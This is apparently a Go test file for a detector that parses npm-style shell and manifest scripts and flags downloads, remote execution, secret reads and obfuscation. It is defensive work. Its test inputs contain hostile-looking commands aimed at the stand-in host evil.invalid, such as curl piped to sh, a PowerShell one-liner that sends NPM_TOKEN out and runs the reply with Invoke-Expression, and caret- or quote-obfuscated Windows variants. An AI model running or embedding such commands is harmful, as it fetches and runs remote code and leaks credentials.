package shell

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// describe renders what a script does: its acts, the manifest scripts it runs,
// its hosts, and what went wrong.
func describe(s *Script) []string {
	var out []string
	for _, a := range s.Acts {
		line := string(a.Kind) + ": " + a.Detail
		if a.Common {
			line += " (common)"
		}
		out = append(out, line)
	}
	for _, r := range s.Runs {
		line := "runs " + r.Name
		if r.Dir != "" {
			line += " in " + r.Dir
		}
		out = append(out, line)
	}
	for _, h := range s.Hosts {
		out = append(out, "host "+h)
	}
	if s.Err != "" {
		out = append(out, "error")
	}
	for _, l := range s.Limits {
		out = append(out, "limit: "+l)
	}
	return out
}

func static(texts ...string) []Word {
	words := make([]Word, len(texts))
	for i, t := range texts {
		words[i] = Word{Text: t}
	}
	return words
}

func TestCommands(t *testing.T) {
	tests := []struct {
		name, text string
		want       []Command
	}{
		{"operators", "a x && b | c || d & e; f", []Command{
			{Name: "a", Program: Word{Text: "a"}, Args: static("x"), Next: OpAnd, Line: 1, Column: 1},
			{Name: "b", Program: Word{Text: "b"}, Next: OpPipe, Line: 1, Column: 8},
			{Name: "c", Program: Word{Text: "c"}, Next: OpOr, Line: 1, Column: 12},
			{Name: "d", Program: Word{Text: "d"}, Next: OpBackground, Line: 1, Column: 17},
			{Name: "e", Program: Word{Text: "e"}, Next: OpSequence, Line: 1, Column: 21},
			{Name: "f", Program: Word{Text: "f"}, Line: 1, Column: 24},
		}},
		{"words", `tool 'a b' "c $d e" f\ g $'\x41' ~/h`, []Command{
			{Name: "tool", Program: Word{Text: "tool"}, Args: []Word{
				{Text: "a b"}, {Text: "c ", Dynamic: true}, {Text: "f g"}, {Text: "A"}, {Text: "~/h"},
			}, Line: 1, Column: 1},
		}},
		{"base name", `/usr/bin/Node.EXE x`, []Command{
			{Name: "node", Program: Word{Text: "/usr/bin/Node.EXE"}, Args: static("x"), Line: 1, Column: 1},
		}},
		{"environment and redirections", `A=1 B=$x tool <in >>out 2>&1`, []Command{
			{Name: "tool", Program: Word{Text: "tool"},
				Env: []Assignment{{"A", Word{Text: "1"}}, {"B", Word{Dynamic: true}}},
				Redirects: []Redirect{
					{Op: "<", Target: Word{Text: "in"}}, {Op: ">>", Target: Word{Text: "out"}},
					{FD: "2", Op: ">&", Target: Word{Text: "1"}},
				}, Line: 1, Column: 1},
		}},
		{"wrappers", `sudo -u me env -i X=1 timeout 5 tool y`, []Command{
			{Name: "tool", Program: Word{Text: "tool"}, Args: static("y"), Env: []Assignment{{"X", Word{Text: "1"}}},
				Via: []string{"sudo", "env", "timeout"}, Line: 1, Column: 1},
		}},
		{"nested shells keep positions", `sh -c 'a; eval "b c"'`, []Command{
			{Name: "sh", Program: Word{Text: "sh"}, Args: static("-c", `a; eval "b c"`), Line: 1, Column: 1},
			{Name: "a", Program: Word{Text: "a"}, Via: []string{"sh -c"}, Next: OpSequence, Line: 1, Column: 8},
			{Name: "eval", Program: Word{Text: "eval"}, Args: static("b c"), Via: []string{"sh -c"}, Line: 1, Column: 11},
			{Name: "b", Program: Word{Text: "b"}, Args: static("c"), Via: []string{"sh -c", "eval"}, Line: 1, Column: 17},
		}},
		{"substitutions come first", "a $(b | c) d\n`e`", []Command{
			{Name: "b", Program: Word{Text: "b"}, Next: OpPipe, Line: 1, Column: 5},
			{Name: "c", Program: Word{Text: "c"}, Line: 1, Column: 9},
			{Name: "a", Program: Word{Text: "a"}, Args: []Word{{Dynamic: true}, {Text: "d"}}, Next: OpSequence, Line: 1, Column: 1},
			{Name: "e", Program: Word{Text: "e"}, Line: 2, Column: 2},
			{Program: Word{Dynamic: true}, Line: 2, Column: 1},
		}},
		{"columns count UTF-16 code units", "é 😀 && a", []Command{
			{Name: "é", Program: Word{Text: "é"}, Args: static("😀"), Next: OpAnd, Line: 1, Column: 1},
			{Name: "a", Program: Word{Text: "a"}, Line: 1, Column: 9},
		}},
		{"control structures", "if a; then b; elif c; then d; else e; fi; while f; do g; done; case x in y) h;; esac", []Command{
			{Name: "a", Program: Word{Text: "a"}, Line: 1, Column: 4},
			{Name: "b", Program: Word{Text: "b"}, Line: 1, Column: 12},
			{Name: "c", Program: Word{Text: "c"}, Line: 1, Column: 20},
			{Name: "d", Program: Word{Text: "d"}, Line: 1, Column: 28},
			{Name: "e", Program: Word{Text: "e"}, Next: OpSequence, Line: 1, Column: 36},
			{Name: "f", Program: Word{Text: "f"}, Line: 1, Column: 49},
			{Name: "g", Program: Word{Text: "g"}, Next: OpSequence, Line: 1, Column: 55},
			{Name: "h", Program: Word{Text: "h"}, Line: 1, Column: 77},
		}},
		{"here-document for a shell", "sh <<E\na $x\nE\nb", []Command{
			{Name: "sh", Program: Word{Text: "sh"}, Redirects: []Redirect{{Op: "<<", Target: Word{Text: "E"}}}, Next: OpSequence, Line: 1, Column: 1},
			{Name: "a", Program: Word{Text: "a"}, Args: []Word{{Dynamic: true}}, Via: []string{"sh from a pipe"}, Line: 1, Column: 1},
			{Name: "b", Program: Word{Text: "b"}, Line: 4, Column: 1},
		}},
		{"constants", `X=a; Y=$X-b; tool $X "$Y" $Z; Z=1; Z=2; tool $Z`, []Command{
			{Env: []Assignment{{"X", Word{Text: "a"}}}, Next: OpSequence, Line: 1, Column: 1},
			{Env: []Assignment{{"Y", Word{Text: "a-b"}}}, Next: OpSequence, Line: 1, Column: 6},
			{Name: "tool", Program: Word{Text: "tool"}, Args: []Word{{Text: "a"}, {Text: "a-b"}, {Dynamic: true}}, Next: OpSequence, Line: 1, Column: 14},
			{Env: []Assignment{{"Z", Word{Text: "1"}}}, Next: OpSequence, Line: 1, Column: 31},
			{Env: []Assignment{{"Z", Word{Text: "2"}}}, Next: OpSequence, Line: 1, Column: 36},
			{Name: "tool", Program: Word{Text: "tool"}, Args: []Word{{Dynamic: true}}, Line: 1, Column: 41},
		}},
		{"braces", "cp {a,b}.js {1..3} {c", []Command{
			{Name: "cp", Program: Word{Text: "cp"}, Args: []Word{{Text: "a.js"}, {Text: "b.js"}, {Text: "13", Dynamic: true}, {Text: "{c"}}, Line: 1, Column: 1},
		}},
		{"nothing", " # only a comment", nil},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			s := Parse(test.text)
			if s.Err != "" || !s.Complete() {
				t.Fatalf("Err %q, Limits %q", s.Err, s.Limits)
			}
			if diff := cmp.Diff(test.want, s.Commands); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

func TestFallback(t *testing.T) {
	tests := []struct {
		name, text string
		want       []string
	}{
		{"an unclosed quote is text", `node a.js && curl "http://evil.invalid/x`, []string{
			"runs-file: node a.js", "download: curl \"http://evil.invalid/x", "host evil.invalid", "error"}},
		{"cmd.exe's blocks", `if exist a.js (node a.js) else (del b.js & start /b node c.js)`, []string{
			"runs-file: node a.js", "background: &", "delete: b.js", "background: start /b", "runs-file: node c.js", "error"}},
		{"a substitution", `curl http://evil.invalid/$(whoami) ) | sh`, []string{
			"host-identity: whoami", "post: curl with data of the machine", "host evil.invalid", "error"}},
		{"a pipe", `) curl http://evil.invalid/a | sh`, []string{
			"download: curl http://evil.invalid/a", "download-run: sh from a pipe", "host evil.invalid", "error"}},
		{"a loop over output", `cmd /c "for /f %i in ('curl http://evil.invalid/a') do %i"`, []string{
			"download: curl http://evil.invalid/a", "download-run: output as a command", "dynamic-command: *", "host evil.invalid"}},
		{"a loop over names", `cmd /c "for %f in (*.js) do node %f"`, []string{"runs-file: node *"}},
		{"a caret", `cmd /c "c^u^r^l http://evil.invalid/a"`, []string{"download: curl http://evil.invalid/a", "host evil.invalid"}},
		{"the environment of Windows", `) node %USERPROFILE%\x.js > %NPM_TOKEN%`, []string{
			"reads-secrets: $NPM_TOKEN", "runs-file: node */x.js", "error"}},
		{"PowerShell's backquotes and variables", "powershell -c '$c = i`wr http://evil.invalid/$env:NPM_TOKEN; iex $c'", []string{
			"reads-secrets: $NPM_TOKEN", "inline-code: powershell -Command", "reads-secrets: $NPM_TOKEN", "post: iwr with data of the machine",
			"inline-code: Invoke-Expression", "download-run: Invoke-Expression", "host evil.invalid"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if diff := cmp.Diff(test.want, describe(Parse(test.text))); diff != "" {
				t.Errorf("%s\n(-want +got)\n%s", test.text, diff)
			}
		})
	}
}

// TestWindowsReading covers text that sh skips and cmd.exe runs.
func TestWindowsReading(t *testing.T) {
	tests := []struct {
		text string
		want []string
	}{
		{`node a.js # & node b.js & npm run x`, []string{"runs-file: node a.js", "runs-file: node b.js", "runs x"}},
		{`echo ' & curl http://evil.invalid -o x.exe & x.exe & echo '`, []string{
			"download: curl http://evil.invalid", "runs-file: x.exe", "download-run: file x.exe", "host evil.invalid"}},
		{`node a.js # plain`, []string{"runs-file: node a.js"}},
		{`node .\lib\a.js`, []string{"runs-file: node lib/a.js"}},
		{`bin\setup.bat`, []string{"runs-file: bin/setup.bat"}},
		{`setup.bat`, []string{"runs-file: setup.bat"}},
	}
	for _, test := range tests {
		if diff := cmp.Diff(test.want, describe(Parse(test.text))); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", test.text, diff)
		}
	}
}

func TestFiles(t *testing.T) {
	tests := []struct {
		text string
		want []FileRun
	}{
		{`cd lib && node ./a/../b`, []FileRun{{Interpreter: "node", Path: "lib/b", Line: 1, Column: 16}}},
		{`(cd lib; node a); node b`, []FileRun{
			{Interpreter: "node", Path: "lib/a", Line: 1, Column: 15}, {Interpreter: "node", Path: "b", Line: 1, Column: 24}}},
		{`cd "$X" && node a.js`, []FileRun{{Interpreter: "node", Dynamic: true, Line: 1, Column: 17}}},
		{`node "$PWD/a.js" $(pwd)/b.js`, []FileRun{{Interpreter: "node", Path: "a.js", Line: 1, Column: 6}}},
		{`sh $(pwd)/b.sh`, []FileRun{{Interpreter: "sh", Path: "b.sh", Line: 1, Column: 4}}},
		{`node lib/$X.js`, []FileRun{{Interpreter: "node", Path: "lib/", Dynamic: true, Line: 1, Column: 6}}},
		{`node ../../a.js /opt/b.js`, []FileRun{{Interpreter: "node", Path: "../../a.js", Line: 1, Column: 6}}},
		{`node < a.js`, []FileRun{{Interpreter: "node", Path: "a.js", Line: 1, Column: 8}}},
		{`node - x.js`, nil},
		{`node -- x.js`, []FileRun{{Interpreter: "node", Path: "x.js", Line: 1, Column: 9}}},
		{`. ./a.sh; source b.sh`, []FileRun{
			{Interpreter: ".", Path: "a.sh", Line: 1, Column: 3}, {Interpreter: "source", Path: "b.sh", Line: 1, Column: 18}}},
		{`bash -x -o pipefail a.sh arg`, []FileRun{{Interpreter: "bash", Path: "a.sh", Line: 1, Column: 21}}},
		{`LD_PRELOAD=./x.so ls`, []FileRun{{Interpreter: "LD_PRELOAD", Path: "x.so", Line: 1, Column: 12}}},
		{`make -f build.mk`, []FileRun{{Interpreter: "make", Path: "build.mk", Line: 1, Column: 9}}},
		{`java -cp x -jar a.jar`, []FileRun{{Interpreter: "java", Path: "a.jar", Line: 1, Column: 17}}},
		{`/usr/bin/env node a.js`, []FileRun{{Interpreter: "node", Path: "a.js", Line: 1, Column: 19}}},
		{`node node_modules/.bin/x`, []FileRun{{Interpreter: "node", Path: "node_modules/.bin/x", Line: 1, Column: 6}}},
	}
	for _, test := range tests {
		if diff := cmp.Diff(test.want, Parse(test.text).Files); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", test.text, diff)
		}
	}
}

func TestParseFile(t *testing.T) {
	tests := []struct {
		name, text string
		want       []FileRun
	}{
		{"scripts/a.sh", "#!/bin/sh\nset -e\nDIR=$(dirname \"$0\")\nnode \"$DIR/x.js\"", []FileRun{
			{Interpreter: "node", Path: "scripts/x.js", Line: 4, Column: 6}}},
		{"scripts/a.sh", `node "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/x.js"; cd "${0%/*}"; ./y`, []FileRun{
			{Interpreter: "node", Path: "scripts/x.js", Line: 1, Column: 6}, {Path: "scripts/y", Line: 1, Column: 74}}},
		{"bin/a.CMD", "@echo off\r\nrem # ' &\r\n@node \"%~dp0\\x.js\" %*\r\n", []FileRun{
			{Interpreter: "node", Path: "bin/x.js", Line: 3, Column: 7}}},
		{"bin/a.ps1", "$a = 1\nif ($a) {\n  & node \"$PSScriptRoot\\x.js\"\n}", []FileRun{
			{Interpreter: "node", Path: "bin/x.js", Line: 3, Column: 10}}},
	}
	for _, test := range tests {
		s := ParseFile(test.text, test.name)
		if diff := cmp.Diff(test.want, s.Files); diff != "" {
			t.Errorf("%s (-want +got)\n%s", test.text, diff)
		}
		if s.Err != "" {
			t.Errorf("%s: %s", test.text, s.Err)
		}
	}
	s := ParseFile("(New-Object Net.WebClient).DownloadFile('http://evil.invalid/a', 'a.exe')\n.\\a.exe", "a.ps1")
	want := []string{"download: WebClient.DownloadFile http://evil.invalid/a", "runs-file: a.exe", "download-run: file ./a.exe", "host evil.invalid"}
	if diff := cmp.Diff(want, describe(s)); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

func TestCode(t *testing.T) {
	tests := []struct {
		text string
		want []Code
	}{
		{`node -e "a(\"b\")"`, []Code{{Language: "javascript", Text: `a("b")`, Line: 1, Column: 1}}},
		{`x | node -p "v=$V"`, []Code{{Language: "javascript", Text: "v= ", Dynamic: true, Line: 1, Column: 5}}},
		{"python3 <<'E'\nimport os\nE", []Code{{Language: "python", Text: "import os\n", Line: 1, Column: 1}}},
		{`echo 1+1 | node`, []Code{{Language: "javascript", Text: "1+1\n", Line: 1, Column: 12}}},
		{`echo YSgp | base64 -d | node -`, []Code{{Language: "javascript", Text: "a()", Line: 1, Column: 25}}},
		{`powershell -enc YQBiAA==`, []Code{{Language: "powershell", Text: "ab", Line: 1, Column: 1}}},
		{`mshta "javascript:a()"`, []Code{{Language: "javascript", Text: "a()", Line: 1, Column: 1}}},
		{`deno eval 'a' && bun -e 'b' && perl -ne 'c' && php -r 'd' && ruby -e 'e' && osascript -e 'f'`, []Code{
			{Language: "javascript", Text: "a", Line: 1, Column: 1}, {Language: "javascript", Text: "b", Line: 1, Column: 18},
			{Language: "perl", Text: "c", Line: 1, Column: 32}, {Language: "php", Text: "d", Line: 1, Column: 48},
			{Language: "ruby", Text: "e", Line: 1, Column: 62}, {Language: "applescript", Text: "f", Line: 1, Column: 77},
		}},
	}
	for _, test := range tests {
		if diff := cmp.Diff(test.want, Parse(test.text).Code); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", test.text, diff)
		}
	}
}

func TestCommon(t *testing.T) {
	tests := []struct {
		code string
		want bool
	}{
		{`require('nan')`, true},
		{`require("node-addon-api").include`, true},
		{`require('@scope/name').a.b;`, true},
		{` require( 'nan' ) `, true},
		{`require('nan')()`, false},
		{`require('nan');a`, false},
		{`require('a'+'b')`, false},
		{`require('nan")`, false},
		{`require('nan').a(1)`, false},
		{`require(name)`, false},
		{`console.log(require('nan'))`, false},
	}
	for _, test := range tests {
		s := Parse("node -p " + quoteShell(test.code))
		if len(s.Acts) == 0 || s.Acts[0].Kind != KindInlineCode || s.Acts[0].Common != test.want {
			t.Errorf("%s: %+v, want common %v", test.code, s.Acts, test.want)
		}
	}
}

func TestSnippets(t *testing.T) {
	s := Parse("true; curl -s http://evil.invalid/a |\n sh # run; it")
	want := "curl -s http://evil.invalid/a |\n sh"
	for _, a := range s.Acts {
		if a.Text != want {
			t.Errorf("%s quotes %q, want %q", a.Kind, a.Text, want)
		}
	}
	long := Parse("node a.js " + strings.Repeat("é", 300))
	if text := long.Acts[0].Text; len(text) > MaxSnippet || !strings.HasSuffix(text, "é…") {
		t.Errorf("a long statement is quoted as %q", text)
	}
}

func TestBounds(t *testing.T) {
	tests := []struct {
		name, text, want string
	}{
		{"source", strings.Repeat("a", MaxSource) + ";node x", "only the first 65536 bytes of the text were read"},
		{"commands", strings.Repeat("a;", MaxCommands+1), "more than 1024 commands"},
		{"acts", strings.Repeat("curl a.b;", MaxActs+1), "more than 512 acts"},
		{"depth", "eval eval eval eval eval eval a", "shells nested more than 5 levels deep"},
		{"wrappers", strings.Repeat("nohup ", maxWrappers+1) + "a", "more than 16 wrappers around a command"},
		{"expansions", "a=" + strings.Repeat("x", 30000) + "; echo " + strings.Repeat("$a ", 40), "expansions of more than 1048576 bytes"},
		{"words", "a=" + strings.Repeat("x", 30000) + "; echo " + strings.Repeat("$a ", 10), "words of more than 262144 bytes together"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			s := Parse(test.text)
			if s.Complete() || !strings.Contains(strings.Join(s.Limits, "; "), test.want) {
				t.Errorf("Limits %q, want %q", s.Limits, test.want)
			}
		})
	}
	deep := Parse(strings.Repeat("(", maxOpeners+1) + "; curl http://evil.invalid")
	if !strings.Contains(deep.Err, "too many opening brackets") || !deep.Has(KindDownload) {
		t.Errorf("too many brackets: Err %q, acts %v", deep.Err, describe(deep))
	}
}

// TestJSON makes sure that a Script crosses processes unharmed.
func TestJSON(t *testing.T) {
	for _, test := range malicious {
		want := Parse(test.command)
		data, err := json.Marshal(want)
		if err != nil {
			t.Fatal(err)
		}
		var got Script
		if err := json.Unmarshal(data, &got); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(*want, got); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", test.command, diff)
		}
	}
}
